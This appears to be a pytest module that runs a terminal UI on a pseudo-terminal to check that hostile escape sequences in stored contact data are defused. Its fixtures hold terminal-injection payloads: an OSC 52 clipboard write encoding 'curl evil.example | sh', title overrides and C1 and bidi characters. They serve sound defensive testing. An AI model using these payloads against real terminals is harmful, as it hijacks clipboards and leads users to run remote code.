"""The real app on a real pseudo-terminal, showing the injection corpus: every byte it writes is read
back, and none of it is an escape sequence a stranger wrote.

The app writes escape sequences of its own (cursor moves, colours, mouse and paste modes). Those
are recognised structurally (CSI) or listed exactly (its OSC and DCS queries); whatever is left must
hold no ESC, BEL, C1, bidi or zero-width character, and nothing of the payloads."""

from __future__ import annotations

import contextlib
import os
import re
import signal
from pathlib import Path

import pytest

from tests.corpus import corpus, forbidden
from tests.hostile.conftest import PATHS
from tests.pty_session import PtySession
from tui.models import Contact, Request
from tui.store import Store

pytestmark = pytest.mark.slow

CSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]")
# The sequences Textual itself sends, whole: pointer shape (OSC 22), and the terminal queries it
# makes at start (kitty keyboard, in-band resize, synchronized output).
OWN = re.compile(r"\x1b\]22;[a-z-]+\x07|\x1b\]22;[a-z-]+\x1b\\\\|\x1bP=[12]s\x1b\\\\|\x1b[=>]|\x1b7|\x1b8")
# Introducers of the sequences the corpus carries: OSC, DCS, APC, RIS, and their 8-bit forms.
INTRODUCERS = ("\x1b]", "\x1bP", "\x1b_", "\x1bc", "\x9d", "\x9b", "\x90")


def run_on_pty(
    data: Path, keys: list[str], term: str = "xterm-256color", args: tuple[str, ...] = ("triage",), stderr_elsewhere: bool = False
) -> bytes:
    env = {"TUI_DATA_DIR": str(data), "TUI_CONFIG_DIR": str(data.parent / "config"), "TERM": term, "COLORTERM": "truecolor"}
    session = PtySession(list(args), env, size=(80, 24), stderr_elsewhere=stderr_elsewhere)
    try:
        session.read_until(b"pending", timeout=20 if keys else 0.1)  # the first card
        for key in keys:
            session.press(key, 0.15)
        session.read_for(1.0)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(session.pid, signal.SIGTERM)
        session.read_for(0.5)
        os.waitpid(session.pid, 0)
        os.close(session.fd)
    return bytes(session.output)


def leftovers(raw: bytes) -> str:
    text = raw.decode("utf-8")  # strict: the app never writes broken UTF-8
    return OWN.sub("", CSI.sub("", text))


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    store = Store.open(data)
    for i, text in enumerate(corpus()):
        store.add_request(
            Request(
                name=text,
                message=text,
                title=text,
                company=text,
                tags=[text[:40]],
                emails=[f"p{i}@example.org"],
                sent_at=f"2026-10-01T09:{i // 60:02d}:{i % 60:02d}",
            )
        )
        store.add_contact(Contact(name=text, emails=[f"p{i}@example.org"]))
    return data


def test_benign_run_leaves_nothing_but_text(tmp_path: Path) -> None:
    """The oracle itself: a run on plain data leaves no escape once the app's own are removed."""
    data = tmp_path / "data"
    Store.open(data).add_request(Request(name="Plain Person", message="hello"))
    rest = leftovers(run_on_pty(data, ["c", "\x1b", "q"]))
    assert "Plain Person" in rest and forbidden(rest.replace("\n", "").replace("\r", "").replace("\x08", "")) == []


@pytest.mark.parametrize("term", ["xterm-256color", "tmux-256color"])
def test_hostile_cards_write_no_hostile_bytes(hostile_data: Path, term: str) -> None:
    keys = ["s"] * 60 + ["c", "\x1b", "h", "\x1b", "t", "\x1b", "q"]
    raw = run_on_pty(hostile_data, keys, term)
    assert f"{len(corpus())} pending".encode() in raw, raw[-400:]
    rest = leftovers(raw)
    # The clipboard payload was on screen, visibly defused: its ESC shown as U+FFFD.
    assert "\ufffd]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in rest
    for introducer in INTRODUCERS:
        assert introducer not in rest, f"{introducer!r} reached the terminal"
    assert forbidden(rest.replace("\n", "").replace("\r", "").replace("\x08", "")) == []
    assert "\x9b" not in rest and "\x07" not in rest and "\x1b" not in rest
    PATHS[f"real pty ({term})"] = 61


@pytest.mark.parametrize(
    "args",
    [
        ("list",),
        ("show", "r5"),
        ("show", "r150"),
        ("stats",),
        ("dedup",),
        ("export", "--format", "csv"),
        ("export", "--format", "vcard"),
        ("export", "--format", "json"),
    ],
)
def test_cli_on_a_terminal_writes_no_escape_at_all(hostile_data: Path, args: tuple[str, ...]) -> None:
    """The command line writes no escape sequence of its own, so on a terminal there must be none.
    (But for `tui dedup`'s progress bar, drawn on stderr with escapes by design when there are over
    200 requests to match: stderr goes elsewhere for it, and its stdout is checked.)"""
    raw = run_on_pty(hostile_data, [], args=args, stderr_elsewhere=args == ("dedup",))
    text = raw.decode("utf-8")
    assert text.strip(), "nothing was written"
    assert forbidden(text.replace("\n", "").replace("\r", "")) == [], args
    PATHS[f"tui {args[0]} on a pty"] = len(corpus())


def test_edit_dialog_writes_no_hostile_bytes(tmp_path: Path) -> None:
    """`e` puts a stranger's notes and tags into an Input and a TextArea: what they draw must be the
    cleaned text, or an OSC 52 in the notes sets the user's clipboard and an OSC 0 the title."""
    data = tmp_path / "data"
    notes = "before \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 mid \x1b]0;pwned title\x1b\\ \x9d0;c1 title\x9c after\u202e"
    Store.open(data).add_request(Request(name="Plain Person", notes=notes, tags=["\x1b]0;tag title\x07", "\x1b]52;c;dGFn\x1b\\"]))
    raw = run_on_pty(data, ["e", "\x1b", "q"])
    rest = leftovers(raw)
    assert "Notes and tags" in rest and "before" in rest, rest[-400:]
    for introducer in INTRODUCERS:
        assert introducer not in rest, f"{introducer!r} reached the terminal"
    assert forbidden(rest.replace("\n", "").replace("\r", "").replace("\x08", "")) == []
    PATHS["edit dialog on a real pty"] = 2
